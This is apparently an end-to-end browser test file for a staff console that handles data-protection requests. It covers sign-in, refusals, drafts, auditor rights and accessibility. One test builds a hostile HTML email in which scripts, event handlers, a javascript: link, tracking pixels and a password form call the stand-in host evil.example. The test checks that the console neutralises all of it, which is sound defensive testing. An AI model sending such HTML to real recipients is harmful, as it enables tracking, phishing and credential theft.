// The case page of the staff console, as staff use it.
import { expect, test } from 'vitest';
import { at, listAt, textAt } from '../../local/json.ts';
import { focusedName, signedIn, tabTo } from './at-the-console.ts';
import { inChromium } from './in-chromium.ts';
import { faultsOf } from './readable.ts';

const hostile = `<html><head><style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>
<link rel="stylesheet" href="https://evil.example/l.css"><link rel="dns-prefetch" href="//evil.example">
<script>fetch('https://evil.example/s')</script><meta http-equiv="refresh" content="0;url=https://evil.example/r"><base href="https://evil.example/"></head>
<body onload="fetch('https://evil.example/o')" background="https://evil.example/back.png"><h1>Hello</h1>
<p>Please delete my account and all my data.</p><img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="fetch('https://evil.example/e')"><picture><source srcset="https://evil.example/set.png"></picture>
<form action="https://evil.example/f"><input name="password" autofocus onfocus="fetch('https://evil.example/focus')"><button>Go</button></form>
<iframe src="https://evil.example/i"></iframe><object data="https://evil.example/ob"></object><embed src="https://evil.example/em">
<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4" autoplay></video><svg><image href="https://evil.example/svg.png"/></svg>
<div style="position:fixed;inset:0;background:url(//evil.example/d.png)">You won a prize</div>
<a href="javascript:fetch('https://evil.example/j')">click</a> <a href="https://evil.example/bank">Your bank</a>
<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table></body></html>`;

const patience = { timeout: 10_000 };

inChromium('an officer at the console', (house) => {
  const caseFrom = async (from: string, text: string, more: { html?: string } = {}): Promise<string> => {
    await house().sendMail({ from, subject: 'My data', text, ...more });
    return house().caseOf(from);
  };

  test('signs in by the issuer, and no token lies anywhere in the browser', async () => {
    const page = await signedIn(house(), 'officer');
    expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe('Today');
    const kept = await page.evaluate<string>(
      'JSON.stringify([localStorage, sessionStorage, document.cookie])',
    );
    expect(kept).not.toMatch(/token|eyJ/i);
    expect(page.url()).toBe(`${house().url}/staff/`);
  });

  test('refuses without a mouse: the missing legal parts are named until they are there, and the letter is seen before', async () => {
    const from = 'refused@example.net';
    const reference = await caseFrom(from, 'I live in Germany. Please delete my account and all my data.');
    const page = await signedIn(house(), 'officer', `#/case/${reference}`);
    const { keyboard } = page;
    const composer = page.getByRole('form', { name: 'Refuse' });
    const missing = () => composer.getByRole('status').first().innerText();

    await page.getByRole('article').first().waitFor();
    await keyboard.press('x');
    await expect.poll(missing, patience).toContain('The way to a court');
    expect(await missing()).toContain('Why, in words for this person');
    expect(await focusedName(page)).toMatch(/Reason/);
    await keyboard.press('Enter');
    await keyboard.press('ArrowDown');
    await keyboard.press('Enter');
    await tabTo(page, /Why, in words/);
    await keyboard.type('Tax law wants the invoices kept.');
    await tabTo(page, /Authority to complain to/);
    await keyboard.press('Enter');
    await keyboard.press('ArrowDown');
    await keyboard.press('ArrowDown');
    await keyboard.press('Enter');
    await tabTo(page, /may also go to court/);
    await keyboard.press('Space');
    await expect.poll(missing, patience).toBe('');
    await expect
      .poll(() => composer.locator('.letter').innerText(), patience)
      .toContain('Tax law wants the invoices kept.');

    await keyboard.press('Control+Enter');
    const state = async () => textAt(await house().staff(`/cases/${reference}`), 'items.0.state');
    await page.getByText('goes out in').first().waitFor();
    expect(await state()).toBe('open');
    await expect.poll(state, { timeout: 30_000 }).toBe('answered');
    expect(await house().mailsTo(from, 2)).toMatchObject([{}, { text: expect.stringContaining('Tax law') }]);
  });

  test('takes a letter back, and it is a draft again', async () => {
    const reference = await caseFrom('taken.back@example.net', 'Please send me a copy of all my data.');
    const page = await signedIn(house(), 'agent', `#/case/${reference}`);
    await page.getByRole('article').first().waitFor();
    await page.keyboard.press('r');
    await page.getByRole('form', { name: 'Reply' }).getByRole('textbox').waitFor();
    await page.keyboard.type('Which shop was it?');
    await page.keyboard.press('Control+Enter');
    await page.getByRole('button', { name: 'Take back' }).click();
    expect(await page.getByRole('textbox', { name: 'Text' }).inputValue()).toBe('Which shop was it?');
    await page.reload();
    expect(await page.getByRole('textbox', { name: 'Text' }).inputValue()).toBe('Which shop was it?');
    const whole = await house().staff(`/cases/${reference}`);
    expect(listAt(whole, 'messages').filter((message) => at(message, 'direction') === 'out')).toEqual([]);
  });

  test('loses no word when somebody else was faster, and sends after a look', async () => {
    const reference = await caseFrom('conflict@example.net', 'Please correct my name.');
    const page = await signedIn(house(), 'agent', `#/case/${reference}`);
    await page.getByRole('article').first().waitFor();
    await page.keyboard.press('n');
    await page.getByRole('form', { name: 'Note' }).getByRole('textbox').waitFor();
    await page.keyboard.type('Called back, nobody there.');
    await house().staff(`/cases/${reference}/messages`, { kind: 'note', text: 'I called as well.' });
    await page.keyboard.press('Control+Enter');
    await page.getByRole('button', { name: 'Open the draft' }).click();
    await page.getByRole('button', { name: 'I have looked' }).click();
    expect(await page.getByText('I called as well.').count()).toBe(1);
    expect(await page.getByRole('textbox', { name: 'Text' }).inputValue()).toBe('Called back, nobody there.');
    await page.getByRole('button', { name: 'Do it' }).click();
    await page.getByText('Done: Note').waitFor();
    const texts = listAt(await house().staff(`/cases/${reference}`), 'messages').map((each) =>
      at(each, 'text'),
    );
    expect(texts).toContain('Called back, nobody there.');
  });

  test('sees a hostile mail as it came, and nothing of it acts or loads', async () => {
    const reference = await caseFrom('hostile@example.net', 'Please delete my account and all my data.', {
      html: hostile,
    });
    const page = await signedIn(house(), 'officer', `#/case/${reference}`);
    const asked: string[] = [];
    page.context().on('request', (request) => asked.push(request.url()));
    await page.getByRole('article').first().waitFor();
    await page.keyboard.press('o');
    const frame = page.frameLocator('iframe.original');
    await frame.getByText('Please delete my account and all my data.').waitFor();
    await frame.getByText('Your bank').click({ timeout: 5_000 });
    await page.waitForTimeout(1_000);
    expect(asked.filter((url) => !url.startsWith(`${house().url}/`) && !url.startsWith('about:'))).toEqual(
      [],
    );
    expect(
      await frame
        .locator(
          'script, img, form, input, iframe, object, embed, video, svg, style, link, [style], [href], [onload]',
        )
        .count(),
    ).toBe(0);
    expect(page.url()).toContain(reference);
    await page.getByText('Where its').click();
    expect(await page.getByText('https://evil.example/bank').count()).toBe(1);
  });

  test('who signs out leaves no draft behind', async () => {
    const reference = await caseFrom('signs.out@example.net', 'Please send me a copy of all my data.');
    const page = await signedIn(house(), 'agent', `#/case/${reference}`);
    await page.getByRole('article').first().waitFor();
    await page.keyboard.press('n');
    await page.getByRole('form', { name: 'Note' }).getByRole('textbox').waitFor();
    await page.keyboard.type('A secret of this person.');
    expect(await page.evaluate<string>('JSON.stringify(sessionStorage)')).toContain('A secret');
    await page.getByRole('button', { name: /local agent/ }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page
      .getByRole('button', { name: /yes|sign/i })
      .first()
      .click();
    await page.getByRole('heading', { name: 'You are signed out' }).waitFor();
    expect(await page.evaluate<string>('JSON.stringify(sessionStorage)')).not.toContain('A secret');
  });

  test('an auditor sees the case and nothing that changes it', async () => {
    const reference = await caseFrom('audited@example.net', 'Please delete my account.');
    const page = await signedIn(house(), 'auditor', `#/case/${reference}`);
    await page.getByRole('article').first().waitFor();
    for (const name of ['Reply', 'Note', 'Answer', 'Refuse', 'Assign to me', 'It belongs to …'])
      expect(await page.getByRole('button', { name }).count(), name).toBe(0);
  });

  test('is for everybody: axe finds nothing, in light and dark, while one writes and while one reads the original', async () => {
    const reference = await caseFrom('axe@example.net', 'I live in France. Please delete my account.', {
      html: '<p>Please delete my account.</p>',
    });
    const page = await signedIn(house(), 'officer', `#/case/${reference}`);
    await page.getByRole('article').first().waitFor();
    expect(await faultsOf(page)).toEqual([]);
    await page.keyboard.press('o');
    await page.locator('iframe.original').waitFor();
    await page.keyboard.press('x');
    await page.getByRole('form', { name: 'Refuse' }).getByText('The way to a court').last().waitFor();
    expect(await faultsOf(page)).toEqual([]);
  });
});
